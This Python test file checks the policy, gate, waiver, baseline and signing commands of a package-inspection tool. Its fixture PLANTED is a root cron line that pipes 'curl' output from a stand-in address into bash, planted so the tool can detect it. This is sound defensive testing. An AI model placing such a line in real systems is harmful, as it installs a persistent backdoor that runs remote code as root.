#!/usr/bin/env python3
"""Policies: what requires, what weakens and what must not; gates over stored reports; waivers. No network."""
import json
import os
import random
import re
import signal
import subprocess
import time

import jsonschema

from gating import AT, DARK, gate, policy
from plumb_test import ROOT, case, main

OUTCOME = jsonschema.Draft202012Validator(json.loads((ROOT / "docs/outcome.schema.json").read_text(encoding="utf-8")))
SCRIPT = "#!/bin/sh\n# Say what time it is, in a friendly way.\necho \"It is $(date), my friend.\"\nexit 0\n"
PLANTED = "* * * * * root curl -s http://198.51.100.7/stage2 | bash\n"


def folders(t, name="p", **extra):
    """A package and its source: the same script; in the package alone, what is in `extra` by file name (`_` for `.`)."""
    t.write(f"{name}/source/clock.sh", SCRIPT)
    t.write(f"{name}/package/clock.sh", SCRIPT)
    for file, data in extra.items():
        t.write(f"{name}/package/{file.replace('_', '.')}", data)
    return t.path(f"{name}/package/x").parent, t.path(f"{name}/source/x").parent


def stored(t, name="p", expect=None, **extra):
    """The path of a report of such a package."""
    package, source = folders(t, name, **extra)
    report = t.check(package, "--source", source, expect=expect)
    return t.write(f"{name}.json", report.stdout)


def error_finding(path):
    return next(f for f in json.loads(path.read_bytes())["findings"] if f["severity"] == "error")


def waive(t, report, finding, *more, name="policy.yaml", expires="2027-02-01", expect=0, **run):
    code, out, said = t.raw("waive", report, finding, "--policy", t.path(name), "--reason", "a cron job we know", "--owner",
                            "k.lee@acme", "--expires", expires, "--at", AT, "-o", "json", *more, **run)
    assert code == expect, f"exit {code}, not {expect}: {out.decode()} {said}"
    document = json.loads(out)
    error = jsonschema.exceptions.best_match(OUTCOME.iter_errors(document))
    assert error is None, f"schema: {error.json_path}: {error.message}"
    return document


@case
def a_clean_report_passes_and_every_rule_is_listed_with_its_line(t):
    got = gate(t, stored(t), "--policy", policy(t, "require:\n  level: 1\n  unaccounted: 0\n  opaque: 0\n"), expect=0)
    assert got.rules() == {"links": "pass", "findings": "pass", "require.level": "pass", "require.unaccounted": "pass",
                           "require.opaque": "pass"}, got.rules()
    lines = {x["rule"]: x["line"] for x in got.json["subjects"][0]["policy"]["rules"]}
    assert (lines["require.level"], lines["require.unaccounted"], lines["require.opaque"]) == (3, 4, 5), lines


@case
def all_rules_are_evaluated_and_not_only_the_first_that_fails(t):
    got = gate(t, stored(t, cron=PLANTED), "--policy", "builtin:strict", expect=1)
    failed = {k for k, v in got.rules().items() if v == "fail"}
    assert failed == {"links", "findings", "require.level", "require.unaccounted"}, failed


@case
def bytes_that_nobody_could_examine_are_exit_3(t):
    report = stored(t, a_pyc=DARK)
    got = gate(t, report, "--policy", policy(t, "require: {opaque: 0}\n"), expect=3)
    assert got.rules()["require.opaque"] == "fail"
    gate(t, report, "--policy", policy(t, "require: {opaque: 100%}\n"), expect=0)
    gate(t, report, "--policy", policy(t, "require: {opaque: 0, level: 2}\n"), expect=1)


@case
def no_report_at_all_is_exit_4(t):
    got = gate(t, expect=4)
    assert "no report" in got.error()
    gate(t, "--policy", "builtin:observe", expect=4)


@case
def a_report_that_is_missing_or_damaged_is_exit_4(t):
    gate(t, "nowhere.json", expect=4)
    whole = stored(t).read_bytes()
    gate(t, t.write("half.json", whole[:len(whole) // 2]), "--policy", "builtin:observe", expect=4)
    gate(t, t.write("other.json", "{}"), expect=4)
    gate(t, t.write("twice.json", whole.replace(b'"verdict": "pass"', b'"verdict": "pass", "verdict": "pass"')), expect=4)


@case
def a_report_without_files_is_exit_4_and_never_0(t):
    report = json.loads(stored(t).read_bytes())
    report["files"] = []
    for key in list(report["bytes"]):
        report["bytes"][key] = {"A": 0, "B": 0, "C": 0} if key == "derived_by_grade" else 0
    got = gate(t, t.write("none.json", json.dumps(report)), "--policy", "builtin:observe", expect=4)
    assert "nothing was examined" in got.json["subjects"][0]["errors"][0]["message"]


@case
def a_report_that_could_not_reach_the_network_keeps_exit_5(t):
    report = t.check("pkg:npm/left-pad@1.3.0", expect=5)
    gate(t, t.write("offline.json", report.stdout), "--policy", "builtin:observe", expect=5)


@case
def an_expired_policy_is_exit_6(t):
    report = stored(t)
    text = policy(t, "expires: 2026-11-26\nrequire: {level: 1}\n")
    gate(t, report, "--policy", text, at="2026-11-25T23:59:59Z", expect=0)
    got = gate(t, report, "--policy", text, at="2026-11-26", expect=6)
    assert got.rules()["expires"] == "fail" and got.rules()["require.level"] == "pass"
    package, source = folders(t)
    assert t.check(package, "--source", source, "--policy", text, "--at", "2026-11-26", expect=6).json["policy"]["decision"] == "trust"


@case
def several_reports_are_all_judged_and_the_worst_decides(t):
    good, bad, dark = stored(t, "a"), stored(t, "b", cron=PLANTED), stored(t, "c", a_pyc=DARK)
    text = policy(t, "require: {opaque: 0}\n")
    got = gate(t, good, bad, dark, "missing.json", "--policy", text, expect=1)
    assert [s["exit_code"] for s in got.json["subjects"]] == [0, 1, 3, 4]
    gate(t, good, dark, "--policy", text, expect=3)
    gate(t, good, "missing.json", "--policy", text, expect=3)
    gate(t, good, good, "--policy", text, expect=0)
    assert gate(t, bad, good, "--policy", policy(t, "expires: 2026-01-01\n"), expect=6).json["subjects"][0]["exit_code"] == 6


@case
def report_only_turns_1_and_3_into_0_and_nothing_else(t):
    got = gate(t, stored(t, cron=PLANTED), "--report-only", expect=0)
    assert "report-only: would exit 1" in got.said and got.json["exit_code"] == 1
    gate(t, "--report-only", expect=4)
    gate(t, stored(t), "--report-only", "--policy", policy(t, "expires: 2026-01-01\n"), expect=6)
    gate(t, stored(t), "--report-only", "--policy", "builtin:strickt", expect=2)


@case
def what_a_stored_report_says_of_its_own_verdict_is_not_believed(t):
    report = stored(t, cron=PLANTED).read_text()
    lie = report.replace('"verdict": "fail",\n "exit_code": 1', '"verdict": "pass",\n "exit_code": 0')
    lie = lie.replace('"verdict": "broken"', '"verdict": "holds"').replace('"own": 1', '"own": 4').replace('"decision": "fail"', '"decision": "pass"')
    lie = lie.replace('"violation": 3', '"violation": 0')
    got = gate(t, t.write("lie.json", lie), expect=1)
    assert got.json["subjects"][0]["level"] == {"own": 1, "chain": None, "violation": 3}
    gate(t, t.path("lie.json"), "--policy", "builtin:observe", expect=1)


MISTAKES = {
    "requires: {level: 3}": (":2:1: unknown key 'requires'", "did you mean require?"),
    "require: {levle: 3}": (":2:11: unknown key 'levle'", "did you mean level?"),
    "require: {level: 5}": (":2:11: one of 0, 1, 2, 3, 4 expected", ""),
    "require: {level: 03}": (":2:11: one of", ""),
    "require: {unaccounted: 1.5}": (":2:11: a number of bytes or a share", ""),
    "require: {unaccounted: -1}": (":2:11: a number of bytes or a share", ""),
    "require: {unaccounted: 101%}": (":2:11: a number of bytes or a share", ""),
    "require: {source: trusted}": (":2:11: one of given, verified, claimed expected", ""),
    "require: {grade: {code: D}}": (":2:19: one of A, B, C expected", ""),
    "require: {level: 3, level: 1}": (":2:21: this key stands twice", ""),
    "require: [level]": (":2:1: a map of keys expected", ""),
    "severity: {archive.gp: error}": (":2:12: no finding has the tag 'archive.gp'", "did you mean archive.gap?"),
    "severity: {archive.gap: fatal}": (":2:12: one of note, warning, error expected", ""),
    "extends: [builtin:strikt]": (":2:11: no policy is called 'builtin:strikt'", "did you mean builtin:strict?"),
    "extends: [other.yaml]": (":2:11: no policy is called", "builtin:strict, release"),
    "expires: 2027-02-30": (":2:1: a day such as 2027-06-01 expected", ""),
    "rules:\n  - match: {purl: 'pkg:npm/*', scop: dev}\n    require: {level: 1}": (":3:32: unknown key 'scop'", "did you mean scope?"),
    "rules:\n  - match: {}": (":3:5: key 'require' is missing", ""),
    "require: &a {level: 1}": ("anchors and tags are not allowed", ""),
    "require: !!map {level: 1}": ("anchors and tags are not allowed", ""),
    "require: *a": ("aliases are not allowed", ""),
    "---\nversion: 1": ("", ""),
    "\tlevel: 3": ("", ""),
    "waivers: [{id: W-1}]": (":2:11: key 'tag' is missing", ""),
}


@case
def every_mistake_in_a_policy_is_exit_2_with_its_place_and_the_nearest_word(t):
    report = stored(t)
    for text, (words, hint) in MISTAKES.items():
        got = gate(t, report, "--policy", policy(t, text + "\n"), expect=2)
        assert words in got.error() and hint in got.error(), (text, got.error())
        assert got.json["subjects"] == []
        code, _, _ = t.raw("policy", "check", t.path("policy.yaml"))
        assert code == 2, text


@case
def a_check_with_a_bad_policy_does_not_begin(t):
    package, source = folders(t)
    for name in ("nowhere.yaml", policy(t, "requires: {}\n"), "builtin:none"):
        report = t.check(package, "--source", source, "--policy", name, expect=2)
        assert report.json["files"] == [] and report.json["errors"]


@case
def a_check_under_a_policy_says_what_a_gate_says_of_its_report(t):
    for name, extra in (("a", {}), ("b", {"cron": PLANTED}), ("c", {"a_pyc": DARK})):
        package, source = folders(t, name, **extra)
        for builtin in ("strict", "release", "observe", "vendor-binary", "distro"):
            report = t.check(package, "--source", source, "--policy", f"builtin:{builtin}")
            plain = t.write("plain.json", t.check(package, "--source", source).stdout)
            again = t.write("again.json", report.stdout)
            for path in (plain, again):
                got = gate(t, path, "--policy", f"builtin:{builtin}", expect=report.code)
                assert got.json["subjects"][0]["policy"] == report.json["policy"], (name, builtin)


@case
def without_a_policy_nothing_changes(t):
    package, source = folders(t)
    report = t.check(package, "--source", source, expect=0)
    assert report.json["policy"] == {"name": "default", "sha256": None, "decision": "pass", "rules": []}


@case
def the_nearest_plumb_yaml_upwards_from_the_working_folder_holds(t):
    package, source = folders(t)
    t.write("plumb.yaml", "version: 1\nrequire: {level: 4}\n")
    deep = t.path("a/b/c/x").parent
    report = t.check(package, "--source", source, cwd=deep, expect=1)
    assert report.json["policy"]["name"] == "../../../plumb.yaml"
    assert report.json["policy"]["rules"][-1]["why"] == "level 1, at least 4"
    gate(t, stored(t.__class__(t.program, t.path("other/x").parent)), cwd=deep, expect=1)


@case
def a_policy_inside_of_the_package_is_not_read_and_that_is_said(t):
    own = "version: 1\nseverity: {file.unaccounted: note, text.unaccounted: note}\n"
    package, source = folders(t, cron=PLANTED, plumb_yaml=own)
    report = t.check(package, "--source", source, expect=1)
    assert report.findings("policy.ignored", severity="warning"), report.json["findings"]
    report = t.check(".", "--source", source, cwd=package, expect=1)
    assert "never configures its judge" in report.stderr and report.json["policy"]["name"] == "default"
    report = t.check(package, "--source", source, "--policy", package / "plumb.yaml", expect=2)
    assert "inside of the subject" in report.json["errors"][0]["message"]
    (package / "link").symlink_to("plumb.yaml")
    t.path("outside.yaml").symlink_to(package / "plumb.yaml")
    t.check(package, "--source", source, "--policy", t.path("outside.yaml"), expect=2)


@case
def a_gate_does_not_find_its_policy_in_the_package(t):
    own = "version: 1\nseverity: {file.unaccounted: note, text.unaccounted: note}\n"
    report = stored(t, cron=PLANTED, plumb_yaml=own)
    package = t.path("p/package/x").parent
    got = gate(t, report, cwd=package, expect=2)
    assert "is a file of what is judged" in got.json["subjects"][0]["errors"][0]["message"]
    gate(t, report, cwd=t.scratch, expect=1)
    t.write("plumb.yaml", "version: 1\nrequire: {level: 0}\n")
    gate(t, report, cwd=t.scratch, expect=1)
    named = gate(t, report, "--policy", t.write("mine.yaml", own), expect=0)  # named, and so somebody's decision
    assert named.json["policy"]["name"].endswith("mine.yaml")


@case
def a_policy_inside_of_the_source_holds_only_when_it_is_named(t):
    package, source = folders(t, cron=PLANTED)
    t.write("p/source/plumb.yaml", "version: 1\nseverity: {file.unaccounted: note}\n")
    t.write("plumb.yaml", "version: 1\nrequire: {level: 0}\n")
    report = t.check(package, "--source", ".", cwd=source, expect=1)
    assert "never configures its judge" in report.stderr and report.json["policy"]["name"] == "../../plumb.yaml"
    t.check(package, "--source", ".", "--policy", "plumb.yaml", cwd=source, expect=0)


@case
def a_severity_of_the_policy_fails_or_lets_pass_and_the_old_one_is_kept(t):
    report = stored(t, cron=PLANTED)
    text = policy(t, "severity: {file.unaccounted: warning}\n")
    gate(t, report, "--policy", text, expect=0)
    package, source = folders(t, cron=PLANTED)
    changed = t.check(package, "--source", source, "--policy", text, expect=0).findings("file.unaccounted")[0]
    assert (changed["severity"], changed["judged"]) == ("warning", "error"), changed
    dark = stored(t, "c", a_pyc=DARK)
    gate(t, dark, "--policy", policy(t, "severity: {code.opaque: error}\n"), expect=1)


@case
def a_rule_for_some_components_stands_in_place_of_the_one_for_all(t):
    report = json.loads(stored(t).read_bytes())
    report["subject"]["purl"] = "pkg:npm/left-pad@1.3.0"
    path = t.write("npm.json", json.dumps(report))
    rule = "require: {level: 2}\nrules:\n  - match: {purl: '%s'%s}\n    require: {level: 1}\n    reason: later\n"
    got = gate(t, path, "--policy", policy(t, rule % ("pkg:npm/*", "")), expect=0)
    assert "line 5 of" in [x for x in got.json["subjects"][0]["policy"]["rules"] if x["rule"] == "require.level"][0]["why"]
    gate(t, path, "--policy", policy(t, rule % ("pkg:npm/left-p?d@*", "")), expect=0)
    gate(t, path, "--policy", policy(t, rule % ("pkg:deb/*", "")), expect=1)
    gate(t, path, "--policy", policy(t, rule % ("pkg:npm", "")), expect=1)
    gate(t, path, "--policy", policy(t, rule % ("pkg:npm/*", ", scope: dev")), expect=1)


@case
def a_rule_is_a_warning_until_it_is_effective(t):
    report = stored(t)
    text = policy(t, "rules:\n  - match: {}\n    require: {level: 3}\n    effective_on: 2027-01-01\n")
    assert gate(t, report, "--policy", text, at="2026-12-31T23:59:59Z", expect=0).rules()["rules.level"] == "warn"
    assert gate(t, report, "--policy", text, at="2027-01-01", expect=1).rules()["rules.level"] == "fail"
    both = policy(t, "require: {level: 4}\nrules:\n  - match: {}\n    require: {level: 1}\n    effective_on: 2027-01-01\n")
    early = gate(t, report, "--policy", both, at="2026-12-31T23:59:59Z", expect=1).rules()
    assert early["require.level"] == "fail", early  # what does not bind yet lifts nothing that does
    assert gate(t, report, "--policy", both, at="2027-01-01", expect=0).rules()["require.level"] == "pass"


@case
def the_files_own_keys_win_over_what_it_extends_and_the_line_says_which(t):
    text = policy(t, "extends: [builtin:strict]\nrequire: {level: 1}\n")
    got = gate(t, stored(t), "--policy", text, expect=0)
    where = {x["rule"]: (os.path.basename(x["policy"]), x["line"]) for x in got.json["subjects"][0]["policy"]["rules"]}
    assert where["require.level"] == ("policy.yaml", 3) and where["require.opaque"][0] == "builtin:strict", where


@case
def a_weaker_source_than_is_asked_for_fails(t):
    report = json.loads(stored(t).read_bytes())
    assert report["sources"][0]["how"] == "given"
    report["sources"][0]["how"] = "claimed"
    path = t.write("claimed.json", json.dumps(report))
    gate(t, path, "--policy", policy(t, "require: {source: claimed}\n"), expect=0)
    gate(t, path, "--policy", policy(t, "require: {source: verified}\n"), expect=1)


@case
def a_chain_that_nobody_examined_is_inconclusive_and_never_passes(t):
    report = stored(t)
    gate(t, report, "--policy", policy(t, "require: {chain_level: 2}\n"), expect=3)
    for level, code in ((1, 1), (2, 0)):
        text = report.read_text().replace('"chain": null', f'"chain": {level}')
        gate(t, t.write("chain.json", text), "--policy", policy(t, "require: {chain_level: 2}\n"), expect=code)


@case
def a_waiver_lets_the_gate_pass_and_is_counted_with_its_expiry(t):
    report = stored(t, cron=PLANTED)
    finding = error_finding(report)
    policy(t, "# ours\nrequire: {unaccounted: 0}\n")
    waive(t, report, finding["id"])
    got = gate(t, report, "--policy", t.path("policy.yaml"), expect=0)
    assert got.waivers() == {"W-0001": "live"}
    assert got.rules()["findings"] == "waived" and got.rules()["require.unaccounted"] == "waived"
    assert got.json["subjects"][0]["policy"]["next_expiry"] == "2027-02-01"
    _, out, _ = t.raw("gate", report, "--policy", t.path("policy.yaml"), "--at", AT)
    assert out.decode().splitlines()[-1].endswith("0 bytes unaccounted, 0 opaque, 1 waiver, next expiry 2027-02-01)"), out
    package, source = folders(t, cron=PLANTED)
    whole = t.check(package, "--source", source, "--policy", t.path("policy.yaml"), "--at", AT, expect=0)
    assert whole.json["bytes"]["waived"] == len(PLANTED) and whole.json["bytes"]["unaccounted"] == 0
    assert whole.findings("file.unaccounted")[0]["waiver"] == "W-0001"
    # What one policy waived, another one sees again.
    again = t.write("again.json", whole.stdout)
    gate(t, again, "--policy", "builtin:release", expect=1)
    assert gate(t, again, "--policy", t.path("policy.yaml"), expect=0).json["subjects"][0]["policy"] == whole.json["policy"]


@case
def a_waived_component_is_capped_at_level_2(t):
    report = stored(t, cron=PLANTED)
    text = report.read_text().replace('"published": {\n   "verdict": "unchecked"', '"published": {\n   "verdict": "holds"')
    text = re.sub(r'"own": 1,', '"own": 1,', text)
    path = t.write("published.json", text)
    policy(t, "require: {level: 3}\n")
    waive(t, path, error_finding(path)["id"])
    got = gate(t, path, "--policy", t.path("policy.yaml"), expect=0)
    assert got.json["subjects"][0]["level"]["own"] == 2
    assert got.rules()["require.level"] == "waived"


@case
def an_expired_waiver_does_not_hold_and_is_said(t):
    report = stored(t, cron=PLANTED)
    policy(t, "")
    waive(t, report, error_finding(report)["id"])
    gate(t, report, "--policy", t.path("policy.yaml"), at="2027-01-31T23:59:59Z", expect=0)
    got = gate(t, report, "--policy", t.path("policy.yaml"), at="2027-02-01", expect=1)
    assert got.waivers() == {"W-0001": "expired"}


@case
def a_waiver_for_other_bytes_does_not_hold_and_is_said(t):
    report = stored(t, cron=PLANTED)
    policy(t, "")
    waive(t, report, error_finding(report)["id"])
    other = stored(t, "q", cron=PLANTED.replace("198", "199"))
    assert gate(t, other, "--policy", t.path("policy.yaml"), expect=1).waivers() == {"W-0001": "other bytes"}
    same = stored(t, "r", cron=PLANTED, more=PLANTED.replace("curl", "wget"))
    assert gate(t, same, "--policy", t.path("policy.yaml"), expect=1).waivers() == {"W-0001": "live"}
    assert gate(t, stored(t, "s"), "--policy", t.path("policy.yaml"), expect=0).waivers() == {"W-0001": "no such finding"}


@case
def a_waiver_holds_for_its_range_and_tag_alone(t):
    report = stored(t, cron=PLANTED)
    digest = next(f["sha256"] for f in json.loads(report.read_bytes())["files"] if f["path"].endswith("cron"))
    waiver = ("waivers:\n  - {{id: W-1, tag: {tag}, sha256: {digest}, range: '{range}', reason: r, owner: o, expires: 2027-02-01}}\n")
    size = len(PLANTED)
    for tag, where, code in (("file.unaccounted", f"cron@0+{size}", 0), ("file.unaccounted", f"cron@0x0+0x{size:x}", 0),
                             ("file.unaccounted", f"cron@0+{size - 1}", 1), ("file.unaccounted", f"cron@1+{size}", 1),
                             ("file.unaccounted", f"ron@0+{size}", 1), ("text.unaccounted", f"cron@0+{size}", 1)):
        text = policy(t, waiver.format(tag=tag, digest=digest, range=where))
        gate(t, report, "--policy", text, expect=code)


@case
def a_waiver_without_end_owner_or_reason_or_for_too_long_is_refused(t):
    report = stored(t, cron=PLANTED)
    whole = {"id": "W-1", "tag": "file.unaccounted", "sha256": "0" * 64, "reason": "r", "owner": "o", "expires": "2027-02-01"}
    for key in whole:
        text = "".join(f"{k}: '{v}', " for k, v in whole.items() if k != key)
        got = gate(t, report, "--policy", policy(t, f"waivers: [{{{text}}}]\n"), expect=2)
        assert f"key '{key}' is missing" in got.error()
    for key, value in (("expires", "2027-11-28"), ("sha256", "0" * 63), ("reason", ""), ("tag", "file.unacounted")):
        text = "".join(f"{k}: '{v}', " for k, v in {**whole, key: value}.items())
        gate(t, report, "--policy", policy(t, f"waivers: [{{{text}}}]\n"), expect=2)
    finding = error_finding(report)["id"]
    policy(t, "")
    waive(t, report, finding, expires="2027-11-28", expect=2)
    waive(t, report, "f-0000000000000000", expect=4)
    waive(t, t.path("nowhere.json"), finding, expect=4)
    assert t.path("policy.yaml").read_text() == "version: 1\n"
    waive(t, report, finding, expires="2027-11-27")


@case
def a_waiver_leaves_the_rest_of_the_policy_as_it_was(t):
    report = stored(t, cron=PLANTED, more=PLANTED.replace("curl", "wget"))
    ids = [f["id"] for f in json.loads(report.read_bytes())["findings"] if f["severity"] == "error"]
    assert len(ids) == 2
    head = "version: 1\n# a comment\nrequire:   {level: 1}   # kept\n"
    tail = "\n# what follows\nseverity:\n    archive.gap: error\n"
    t.write("policy.yaml", head + "waivers:\n- id: old\n  tag: archive.gap\n  sha256: " + "0" * 64 +
            "\n  reason: r\n  owner: o\n  expires: 2027-01-01\n" + tail)
    before = t.path("policy.yaml").read_text()
    for finding in ids:
        waive(t, report, finding)
    after = t.path("policy.yaml").read_text()
    assert after.startswith(before[:before.index(tail)]) and after.endswith(tail)
    assert gate(t, report, "--policy", t.path("policy.yaml"), expect=0).waivers() == {
        "old": "no such finding", "W-0001": "live", "W-0002": "live"}
    t.path("policy.yaml").write_text(head + tail + "waivers: []\n")
    waive(t, report, ids[0], expect=2)
    t.path("policy.yaml").unlink()
    waive(t, report, ids[0], "--name", "cron")
    assert gate(t, report, "--policy", t.path("policy.yaml"), expect=1).waivers() == {"cron": "live"}


@case
def killing_waive_at_any_moment_leaves_the_old_policy_or_the_new_one(t):
    report = stored(t, cron=PLANTED)
    finding = error_finding(report)["id"]
    seed = random.Random(7)
    old = policy(t, "# before\n").read_text()
    began = time.monotonic()
    waive(t, report, finding)
    whole_run = time.monotonic() - began
    new = t.path("policy.yaml").read_text()
    seen = {old: 0, new: 0}
    for _ in range(100):
        t.path("policy.yaml").write_text(old)
        run = subprocess.Popen([t.program, "waive", str(report), finding, "--policy", str(t.path("policy.yaml")), "--reason",
                                "a cron job we know", "--owner", "k.lee@acme", "--expires", "2027-02-01", "--at", AT],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(seed.random() * 1.5 * whole_run)
        run.send_signal(signal.SIGKILL)
        run.wait()
        seen[t.path("policy.yaml").read_text()] += 1
    print(f"# killed 100 times: {seen[old]} times the old policy stood, {seen[new]} times the new one")


@case
def many_waivers_at_a_time_are_all_kept(t):
    planted = {f"cron{i}": PLANTED.replace("stage2", f"stage{i}") for i in range(12)}
    report = stored(t, **planted)
    ids = [f["id"] for f in json.loads(report.read_bytes())["findings"] if f["severity"] == "error"]
    assert len(ids) == len(planted), ids
    for turn in range(4):
        path = policy(t, "# before\n", f"turn{turn}.yaml")
        if turn == 3:
            path.unlink()  # a policy that is not there yet is made by one of them
        running = [subprocess.Popen([t.program, "waive", str(report), i, "--policy", str(path), "--reason", "r", "--owner", "o",
                                     "--expires", "2027-02-01", "--at", AT], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
                   for i in ids]
        said = [run.communicate()[1] for run in running]
        assert [run.returncode for run in running] == [0] * len(ids), said
        got = gate(t, report, "--policy", path, expect=0)
        assert len(got.waivers()) == len(ids) and set(got.waivers().values()) == {"live"}, got.waivers()


def baseline(t, text, *reports, expect=0):
    code, out, said = t.raw("policy", "baseline", text, *reports, "-o", "json", "--at", AT)
    assert code == expect, f"exit {code}, not {expect}: {out.decode()} {said}"
    document = json.loads(out)
    error = jsonschema.exceptions.best_match(OUTCOME.iter_errors(document))
    assert error is None, f"schema: {error.json_path}: {error.message}"
    return {f["name"]: f["value"] for f in document["facts"]}


@case
def a_baseline_lets_old_findings_pass_and_no_new_ones(t):
    old = stored(t, "a", cron=PLANTED)
    text = policy(t, "require: {unaccounted: 0}\nbaseline: {file: base.json}\n", "ci/policy.yaml")
    got = gate(t, old, "--policy", text, expect=2)
    assert "plumb policy baseline" in got.error() and "base.json" in got.json["errors"][0]["subject"]
    assert baseline(t, text, old)["findings"] == "1"
    got = gate(t, old, "--policy", text, expect=0)
    assert got.json["baseline"] == {"entries": 1, "stale": 0, "result": "pass"} and got.rules()["findings"] == "waived"
    assert got.json["subjects"][0]["level"]["own"] <= 2
    new = stored(t, "b", cron=PLANTED, more=PLANTED.replace("curl", "wget"))
    gate(t, new, "--policy", text, expect=1)
    gate(t, stored(t, "c", cron=PLANTED.replace("198", "199")), "--policy", text, expect=1)
    gate(t, stored(t, "d", other=PLANTED), "--policy", text, expect=1)


@case
def a_baseline_only_shrinks_and_with_a_ratchet_it_must(t):
    two = stored(t, "a", cron=PLANTED, more=PLANTED.replace("curl", "wget"))
    one = stored(t, "b", cron=PLANTED)
    loose = policy(t, "baseline: {file: base.json}\n", "loose.yaml")
    tight = policy(t, "baseline: {file: base.json, ratchet: true}\n", "tight.yaml")
    assert baseline(t, loose, two)["findings"] == "2"
    assert gate(t, one, "--policy", loose, expect=0).json["baseline"] == {"entries": 2, "stale": 1, "result": "warn"}
    assert gate(t, one, "--policy", tight, expect=1).json["baseline"]["result"] == "fail"
    gate(t, one, two, "--policy", tight, expect=0)
    facts = baseline(t, tight, one)
    assert (facts["findings"], facts["left-out"]) == ("1", "1")
    gate(t, one, "--policy", tight, expect=0)
    facts = baseline(t, tight, two)  # what was taken out does not come back
    assert (facts["findings"], facts["left-out"]) == ("1", "0")
    gate(t, two, "--policy", tight, expect=1)


@case
def a_damaged_baseline_is_exit_2_and_no_report_makes_none(t):
    report = stored(t, cron=PLANTED)
    text = policy(t, "baseline: {file: base.json}\n")
    baseline(t, text, expect=4)
    baseline(t, text, "nowhere.json", expect=4)
    assert not t.path("base.json").exists()
    baseline(t, policy(t, "", "none.yaml"), report, expect=2)
    baseline(t, text, report)
    whole = t.path("base.json").read_text()
    for damage in (whole[:-5], whole.replace("tag", "tags"), whole.replace("baseline/1", "baseline/2"), "[]", ""):
        t.path("base.json").write_text(damage)
        gate(t, report, "--policy", text, expect=2)
        baseline(t, text, report, expect=2)


@case
def a_policy_is_tested_by_reports_and_the_verdicts_they_should_get(t):
    good, bad = stored(t, "a"), stored(t, "b", cron=PLANTED)
    text = policy(t, "require: {unaccounted: 0}\n")
    for cases, code in (((f"{good}=pass", f"{bad}=fail"), 0), ((f"{good}=0", f"{bad}=0"), 1), ((), 4), (("x",), 2),
                        ((f"{good}=perhaps",), 2), (("nowhere.json=input",), 0)):
        got, out, said = t.raw("policy", "test", text, *cases, "-o", "json", "--at", AT)
        assert got == code, (cases, got, out, said)
        assert jsonschema.exceptions.best_match(OUTCOME.iter_errors(json.loads(out))) is None


@case
def every_built_in_policy_is_shown_and_is_a_policy(t):
    _, names, _ = t.raw("policy", "show")
    for name in names.decode().split():
        code, text, _ = t.raw("policy", "show", name)
        assert code == 0 and text.startswith(b"# ")
        assert t.raw("policy", "check", t.write("copy.yaml", text))[0] == 0
        assert t.raw("policy", "check", name)[0] == 0
    assert t.raw("policy", "show", "builtin:nothing")[0] == 2


@case
def a_policy_that_its_owner_did_not_sign_as_it_stands_is_exit_6(t):
    report = stored(t, cron=PLANTED)
    path = policy(t, "severity: {file.unaccounted: warning}\nbaseline: {file: base.json}\n")
    for name in ("owner", "other"):
        assert t.raw("key", "gen", name)[0] == 0
    baseline(t, path, report)
    args = (report, "--policy", path, "--policy-key", "owner.pub")
    assert "no signature lies beside" in gate(t, *args, expect=6).error()
    assert t.raw("policy", "sign", path)[0] == 2 and t.raw("policy", "sign", path, "--key", "owner.pub")[0] == 2
    assert t.raw("policy", "sign", path, "--key", "owner")[0] == 0
    gate(t, *args, expect=0)
    gate(t, *args, "--policy-key", "other.pub", expect=0)  # one of them
    assert "none of the keys" in gate(t, report, "--policy", path, "--policy-key", "other.pub", expect=6).error()
    package, source = folders(t, cron=PLANTED)
    t.check(package, "--source", source, *args[1:], "--at", AT, expect=0)
    for file in (path, t.path("base.json")):
        whole = file.read_bytes()
        file.write_bytes(whole + b"\n")
        got = gate(t, *args, expect=6)
        assert "changed after it was signed" in got.error() and file.name in got.json["errors"][0]["subject"], got.json["errors"]
        assert t.check(package, "--source", source, *args[1:], "--at", AT, expect=6).json["files"] == []
        file.write_bytes(whole)
    seal = t.path("policy.yaml.dsse").read_bytes()
    for i in range(0, len(seal) - 1, 7):  # not one bit of the envelope can change
        t.path("policy.yaml.dsse").write_bytes(seal[:i] + bytes([seal[i] ^ 1]) + seal[i + 1:])
        gate(t, *args, expect=6)
    t.path("policy.yaml.dsse").write_bytes(t.path("base.json.dsse").read_bytes())
    gate(t, *args, expect=6)
    t.path("policy.yaml.dsse").write_bytes(seal)
    gate(t, *args, expect=0)
    assert "there is none" in gate(t, report, "--policy-key", "owner.pub", expect=6).error()
    gate(t, report, "--policy", "builtin:observe", "--policy-key", "owner.pub", expect=1)
    gate(t, *args[:3], "--policy-key", "nowhere.pub", expect=2)
    bad = policy(t, "requires: {}\n", "bad.yaml")
    assert t.raw("policy", "sign", bad, "--key", "owner")[0] == 2 and not t.path("bad.yaml.dsse").exists()


if __name__ == "__main__":
    main()
